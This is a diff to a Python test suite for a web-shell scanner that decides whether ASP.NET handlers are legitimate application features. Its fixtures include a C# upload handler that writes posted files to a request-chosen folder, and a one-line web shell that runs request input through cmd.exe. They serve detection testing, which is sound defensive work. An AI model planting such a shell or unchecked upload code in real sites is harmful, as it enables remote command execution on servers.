@@ -228,6 +228,40 @@ def test_a_link_kept_in_the_application_s_compiled_assembly_counts(tmp_path: Pat
     assert page_finding(scan(server), "Download.ashx").outcome is Outcome.WEBSHELL
 
 
+#: A Web Site project's upload handler: the handler file names its class file in App_Code (Rock RMS's
+#: FileUploader shape, B7): the capability sits in the class, the links reach the handler.
+UPLOAD_CLASS = (
+    "using System.IO;\nusing System.Web;\nusing Shop.Storage;\nnamespace Shop {\n"
+    "public class FileUploader : IHttpHandler {\n    public bool IsReusable { get { return false; } }\n"
+    "    public void ProcessRequest(HttpContext context) {\n"
+    '        string folder = context.Request.Form["folderPath"];\n'
+    "        HttpPostedFile file = context.Request.Files[0];\n"
+    "        file.SaveAs(Path.Combine(context.Server.MapPath(folder), Path.GetFileName(file.FileName)));\n"
+    "    }\n}\n}\n"
+)
+UPLOAD_HANDLER = '<%@ WebHandler Language="C#" CodeBehind="~/App_Code/FileUploader.ashx.cs" Class="Shop.FileUploader" %>\n'
+
+
+def test_a_handler_class_in_app_code_is_reached_through_its_handler(tmp_path: Path) -> None:
+    script = "function send(f) { $.ajax({ url: '/FileUploader.ashx?folderPath=' + f }); }\n"
+    pages = {"App_Code/FileUploader.ashx.cs": UPLOAD_CLASS, "FileUploader.ashx": UPLOAD_HANDLER, "scripts/upload.js": script}
+    result = scan(app_server(tmp_path / "a", pages, ""))
+    f = page_finding(result, "FileUploader.ashx.cs")
+    assert APPLICATION_FEATURE_TAG in f.tags, f.tags
+    link = next(e for e in f.evidence if e.fields.get("reason") == "application-link")
+    assert link.source.endswith("upload.js") and link.fields["tie"] == "it is the code of fileuploader.ashx"
+    # the handler naming its class only by Class= (no path): the class is not reached, it stays a web shell
+    pages["FileUploader.ashx"] = UPLOAD_HANDLER.replace('CodeBehind="~/App_Code/FileUploader.ashx.cs" ', "")
+    assert page_finding(scan(app_server(tmp_path / "b", pages, "")), "FileUploader.ashx.cs").outcome is Outcome.WEBSHELL
+
+
+def test_a_site_rooted_name_reaches_a_page_at_an_application_root() -> None:
+    page = "c:/inetpub/wwwroot/shop/upload.ashx"
+    js = b"var u = '/Upload.ashx?x=1';\n"
+    assert appcontext.find_link(page, ROOTS, "c:/inetpub/wwwroot/shop/js/a.js", js) is not None
+    assert appcontext.find_link(PAGE.replace("files", "upload").replace(".aspx", ".ashx"), ROOTS, "c:/x/a.js", js) is None
+
+
 def test_a_review_page_does_not_hide_a_web_shell_elsewhere(tmp_path: Path) -> None:
     shell = '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>\n'
     server = app_server(
